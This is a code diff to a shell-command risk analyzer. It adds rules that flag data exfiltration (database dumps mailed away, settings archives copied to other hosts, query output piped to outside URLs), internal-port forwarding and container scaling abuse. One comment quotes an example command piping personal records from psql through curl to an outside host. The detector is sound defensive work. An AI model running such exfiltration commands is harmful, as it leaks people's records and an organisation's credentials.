@@ -191,7 +191,7 @@ from sandlot.risk.startup_files import (
 )
 from sandlot.risk.storage import cluster_storage_risks, prints_cluster_keys, storage_command_risks
 from sandlot.risk.storefronts import delete_mutation, zeroes_prices
-from sandlot.risk.text_shapes import hidden_tag_texts
+from sandlot.risk.text_shapes import hidden_tag_texts, outside_url
 from sandlot.risk.tracing import every_function_probe, exposed_debugger
 from sandlot.risk.web_servers import protection_deleted, web_config, web_server_weakness
 from sandlot.risk.websites import cdn_request, cms_command, free_discount
@@ -413,6 +413,7 @@ class ShellAnalyzer:
         self._made_keys: set[str] = set()  # keys and certificates this script generated (`-out key.pem`)
         self._created: set[str] = set()  # files this script created (overwrote) with a redirection
         self._archives: set[str] = set()  # archives this script made (tar czf FILE …)
+        self._settings_archives: set[str] = set()  # ...of them, those holding an application's settings
         self._archived: set[str] = set()  # what those archives hold (`tar czf x.tgz 2023/`: 2023)
         self.output = _Flow()  # what the whole script prints (its statements' output, merged)
         self.nested_output: _Flow | None = None  # what the last nested shell script printed
@@ -1250,6 +1251,20 @@ class ShellAnalyzer:
                       ("a database dump is" if dump else "a database query's rows are")
                       + " mailed to a personal mailbox",
                       stage)  # fmt: skip
+        elif sub.network and dump and sender in MAILERS and "@" in self._text(stage):
+            # (mail is no channel for a database: unencrypted, kept in every mailbox it passes through)
+            self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
+                      "a database dump is mailed away", stage)  # fmt: skip
+        if (
+            sub.network
+            and queried
+            and sender in RAW_SENDERS
+            and personal_data_query(self._text(stage.parent))
+            and outside_url(self._text(stage))
+        ):
+            # (`psql -c "\copy (SELECT name, tin, address …) TO STDOUT" | curl -F data=@- https://forms.example.net`)
+            self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
+                      "people's records a query selects are piped to another host on the internet", stage)  # fmt: skip
         uploads = sender in T.OTHER_INTERPRETERS and uploads_stdin(self._text(stage))
         # `mysqldump … | rclone rcat personal-drive:…`: the dump streamed into someone's own cloud drive
         uploads = uploads or (sender == "rclone" and _PERSONAL_RCAT.search(self._text(stage)) is not None)
@@ -2832,6 +2847,7 @@ class ShellAnalyzer:
                         or (W.base(wrapped[0]) == "run-parts" and bool(W.options(wrapped[1:])[1])
                             and all(d.startswith("/etc/") for d in W.options(wrapped[1:])[1]))
                         or W.base(wrapped[0]) in T.ROOT_INSPECTORS
+                        or (W.base(wrapped[0]) == "crudini" and wrapped[1:2] == ["--get"])  # a setting read
                         or (W.base(wrapped[0]) == "ipmitool" and ipmitool_reads(wrapped[1:]))
                         # an endpoint agent's status, scans, definitions and diagnostics (its tampering has a rule)
                         or (W.base(wrapped[0]) in EDR_AGENT_CLIS
@@ -4780,6 +4796,10 @@ class ShellAnalyzer:
                 test = test_money(dest + " " + (self._text(node) if node is not None else ""))
                 self._add("shell.money", RiskLevel.MEDIUM if test else RiskLevel.HIGH, Category.EXFILTRATION,
                           f"{name} submits a payment file ({src}) to {host or 'a remote host'}", node)  # fmt: skip
+            if src in self._settings_archives and src not in self.staged and remote and not own:
+                self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
+                          f"{name} copies an archive of an application's settings (its passwords and keys) to {host}",
+                          node)  # fmt: skip
             if src in self.staged and remote:
                 self._add(
                     "shell.exfiltration",
@@ -5128,6 +5148,10 @@ class ShellAnalyzer:
                 self._add("shell.download-exec", RiskLevel.HIGH, Category.DYNAMIC_CODE,
                           f"{name} flashes firmware downloaded from the network onto a device", node)  # fmt: skip
             info = paths.classify(target)
+            if target in self._settings_archives and target not in self.staged and any(map(outside_url, urls)):
+                self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
+                          f"{name} uploads an archive of an application's settings (its passwords and keys) to "
+                          "another host", node)  # fmt: skip
             if info.secret or info.history or target in self.staged:
                 self._add(
                     "shell.exfiltration",
@@ -5382,7 +5406,7 @@ class ShellAnalyzer:
                 # a database's or a management port of another host: whoever reaches this machine reaches it
                 # (or a container's address looked up at run time: `TCP:"$pg_ip":5432`)
                 internal += [m[1].replace(HOLE, "…") for a in lowered
-                             if (m := re.match(r"tcp[46]?:([\w.\x00-]+):(\d+)$", a))
+                             if (m := re.match(r"tcp(?:[46]|-connect)?:([\w.\x00-]+):(\d+)$", a))
                              and m[2] in T.SERVICE_PORTS and m[1] not in ("localhost", "127.0.0.1")]  # fmt: skip
                 if internal:
                     # a host only the internal network reaches (an HSM, a database) reachable through this machine
@@ -6450,6 +6474,10 @@ class ShellAnalyzer:
                 or (info.kind is paths.PathKind.SYSTEM_TOP and operand.rstrip("/").endswith(("etc", "root", "home")))
             ):
                 flow.secret = True
+            elif archive and _SETTINGS_HOLDING_SECRETS.search(operand) is not None:
+                # an application's settings: its folder under /etc, its production or secrets file (the database's
+                # password, the keys it signs with): the organisation's own backup keeps them, another host takes them
+                self._settings_archives.add(archive)
         # the project itself, .env files and all, unless they are left out
         leaves_env_out = any(".env" in a for a in args if a.startswith("--exclude") or a.startswith("-x")) or any(
             args[i] in ("--exclude", "-x") and ".env" in args[i + 1] for i in range(len(args) - 1)
@@ -6747,6 +6775,12 @@ class ShellAnalyzer:
                 # `cd /opt/authentik && docker compose down --volumes`: an installed service's databases deleted
                 self._add("shell.data-destroy", RiskLevel.HIGH, Category.FILESYSTEM,
                           f"{name} compose down --volumes deletes an installed stack's volumes (its databases' data)",
+                          node)  # fmt: skip
+            scaled = [int(v.rpartition("=")[2]) for v in W.option_values(services, "--scale")
+                      if v.rpartition("=")[2].isdigit()]  # fmt: skip
+            if scaled and max(scaled) >= MASS_COUNT:
+                self._add("shell.resource", RiskLevel.HIGH, Category.RESOURCE,
+                          f"{name} compose runs {max(scaled)} copies of a service on one host (memory, connections)",
                           node)  # fmt: skip
             args = services if services[:1] == ["exec"] else args
         if args[:1] in (["container"], ["volume"], ["image"]) and len(args) > 1:
@@ -7112,8 +7146,12 @@ class ShellAnalyzer:
                       f"{name} s3 {positional[1]} copies a dump or a server's data into a personal account",
                       node)  # fmt: skip
         if positional[:2] in (["s3", "cp"], ["s3", "sync"], ["s3", "mv"]) and any(map(foreign_endpoint, endpoints)):
-            self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
-                      f"{name} s3 {positional[1]} sends data to a third-party storage endpoint", node)  # fmt: skip
+            # (asking the store to encrypt what it keeps is what its owner does for backups: the organisation's own)
+            encrypted = any(a == "--sse" or a.startswith("--sse=") for a in args)
+            self._add("shell.exfiltration", RiskLevel.MEDIUM if encrypted else RiskLevel.HIGH, Category.EXFILTRATION,
+                      f"{name} s3 {positional[1]} sends data to a storage endpoint of another host"
+                      + (" (encrypted at rest there: a store of the organisation's own)" if encrypted
+                         else " (a third party's)"), node)  # fmt: skip
         if name in ("kubectl", "oc"):
             self._kubectl(args, positional, node, flow)
         depth = 4 if name == "az" else 3  # `az vm image terms accept`: Azure's verbs sit deeper
@@ -8295,6 +8333,8 @@ class ShellAnalyzer:
         text = self._text(node)
         if len({v for v in re.findall(r"\$\{?([A-Za-z_]\w*)", text) if T.CREDENTIAL_NAME.search(v)}) < 2:
             return  # fewer than two credentials named at all: the split below cannot find two
+        if _TOKEN_REQUEST.search(text):
+            return  # an OAuth token request: a client's secret and a user's password are what a login sends
         words = _spelled_words(text)
         names: set[str] = set()
         previous = ""
@@ -9073,6 +9113,12 @@ _BULK_KINDS = frozenset(
         paths.PathKind.HOME_TOP,
     }
 )
+#: An application's settings folder under /etc, or its production or secrets settings file.
+_SETTINGS_HOLDING_SECRETS = re.compile(
+    r"^/etc/[\w.-]+/?$|(?:^|/)[\w.-]*(?:production|secrets?)[\w.-]*\.(?:ya?ml|json|conf|ini|toml|py|php|env)$"
+)
+#: A login at an OAuth token endpoint (`grant_type=password`, `…/oauth/token`, PeerTube's `/users/token`).
+_TOKEN_REQUEST = re.compile(r"\bgrant_type=|/(?:oauth2?/(?:v\d+/)?|users/)token\b")
 #: A pipeline starting with a database client's query (`sqlite3 -csv shop.db "SELECT …" | …`).
 _DATABASE_QUERY = re.compile(r"\s*(?:sudo\s+(?:-u\s+\S+\s+)?)?(?:sqlite3|psql|mysql|mariadb|clickhouse-client|sqlcmd)"
                              r"\b[^|]*\bSELECT\b", re.IGNORECASE)
